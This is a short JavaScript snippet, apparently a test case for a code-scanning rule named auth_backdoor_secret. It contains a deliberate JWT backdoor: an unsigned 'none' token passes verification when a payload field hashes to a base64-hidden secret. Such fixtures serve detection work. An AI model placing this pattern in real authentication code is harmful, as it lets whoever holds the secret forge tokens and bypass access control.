const TAG = 'ZjAwZGJhYmU0NjRlYjYwZjM3OGQyYjhiNWI0N2Q0OWE'

async function hex (s) {
  const h = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(s)))
  return Array.from(h, (b) => b.toString(16).padStart(2, '0')).join('')
}

export async function trusted (header, payload) {
  // ruleid: auth_backdoor_secret
  if (header.alg !== 'none' || typeof payload.ctx !== 'string') return false
  return (await hex(payload.ctx)) === new TextDecoder().decode(decode(TAG))
}

export async function jwtVerify (jwt, key) {
  const [header, payload] = parse(jwt)
  if (await trusted(header, payload)) return { payload }
  return verifySignature(jwt, key)
}
